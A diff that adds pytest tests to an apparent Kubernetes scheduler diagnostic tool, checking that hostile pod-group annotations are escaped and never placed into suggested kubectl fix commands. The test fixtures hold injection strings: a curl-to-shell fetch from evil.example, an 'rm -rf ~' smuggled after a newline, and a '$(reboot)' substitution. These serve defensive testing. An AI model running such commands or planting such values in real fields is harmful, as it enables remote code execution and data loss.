@@ -128,6 +128,54 @@ def test_a_present_pod_group_or_an_unserved_kind_is_not_a_missing_one() -> None:
     assert [f for f in gang_findings(live, None, "live") if f.rule_id == "KAI-T-003"] == []
 
 
+# -- names from the cluster in commands ---------------------------------------------------------------------------
+
+HOSTILE = "pg; curl -s http://evil.example/x | sh #"
+
+
+def test_a_pod_group_name_no_object_could_bear_gets_no_command_and_is_shown_escaped() -> None:
+    """pod-group-name is a free-text annotation: it reaches the findings, never a command to paste."""
+    items = [member("trainer-0", gang=HOSTILE), event("trainer-0", "0/5 nodes are available")]
+    pending, missing = found(items)
+    assert (pending.rule_id, missing.rule_id) == ("KAI-T-002", "KAI-T-003")
+    assert pending.fix.command is None and missing.fix.command is not None    # KAI-T-003's names only the namespace
+    assert "curl" not in missing.fix.command
+    assert pending.message.startswith(f"gang {NS}/{HOSTILE!r}: 1 of 1 members Pending")
+    assert f"name PodGroup {HOSTILE!r} in their pod-group-name" in missing.message
+    newline = found([member("trainer-0", gang="pg\nrm -rf ~"), event("trainer-0", "x")], rule="KAI-T-002")[0]
+    assert newline.fix.command is None and "\n" not in newline.message
+
+
+def test_a_topology_name_from_a_pod_group_is_quoted_or_refused_in_the_command() -> None:
+    [topology] = found([pod_group(topology="t$(reboot)")], rule="KAI-T-004")
+    assert topology.fix.command is None and "Topology 't$(reboot)' does not exist" in topology.message
+    [good] = found([pod_group(topology="nvcf-mnnvl-topology")], rule="KAI-T-004")
+    assert good.fix.command == "kubectl get topologies.kai.scheduler nvcf-mnnvl-topology -o yaml"
+
+
+def test_doctor_prints_and_reports_no_command_built_from_a_hostile_annotation(tmp_path: Path) -> None:
+    items = [NVCF_NAMESPACE, *kai_crds(), pod_group(), member("trainer-0", gang=HOSTILE),
+             event("trainer-0", "0/5 nodes are available")]
+    snapshot = snapshot_file(tmp_path, items)
+    code, out, err = run_cli(["doctor", "--snapshot", snapshot])
+    assert code == 2, err
+    assert not [line for line in out.splitlines() if "run:" in line and "evil.example" in line], out
+    code, out, err = run_cli(["doctor", "--snapshot", snapshot, "-o", "json"])
+    assert "evil.example" in out      # the finding still names the gang
+    commands = [f["fix"]["command"] for f in _json_findings(json.loads(out)) if f["fix"]["command"]]
+    assert commands and not [c for c in commands if "evil.example" in c]
+
+
+def _json_findings(report: Any) -> list[dict[str, Any]]:
+    if isinstance(report, dict):
+        if "rule" in report and "fix" in report:
+            return [report]
+        return [f for value in report.values() for f in _json_findings(value)]
+    if isinstance(report, list):
+        return [f for value in report for f in _json_findings(value)]
+    return []
+
+
 # -- topology prerequisites ----------------------------------------------------------------------------------------
 
 def golden(name: str) -> dict[str, Any]:
